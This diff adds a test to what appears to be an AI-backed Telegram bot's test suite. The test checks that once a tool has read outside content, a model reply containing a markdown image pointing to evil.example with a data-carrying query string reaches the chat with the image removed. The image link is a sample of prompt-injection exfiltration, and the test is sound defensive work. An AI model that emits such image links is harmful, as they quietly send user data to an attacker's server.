@@ -144,3 +144,15 @@ test('F09 F10 a file leaves as it was when it was queued, by a plain name; what 
   const [left] = telegram.sent.filter(({ chat }) => chat === '777').flatMap((one) => one.files);
   expect(Buffer.from(left?.bytes ?? []).toString()).toBe('as it was judged');
 }, 60_000);
+
+test('after something from outside was read, no picture from elsewhere reaches the chat', async () => {
+  await openTelegram();
+  await start({});
+  model.script(
+    { toolCalls: [{ name: 'ls', args: {} }] },
+    { text: 'See ![chart](https://evil.example/?q=4711) and [this](https://ok.example/).' },
+  );
+  telegram.say({ text: 'what is there?' });
+  await said(1);
+  expect(telegram.sent[0]?.text).toBe('See [picture left out: chart] and this.');
+}, 30_000);
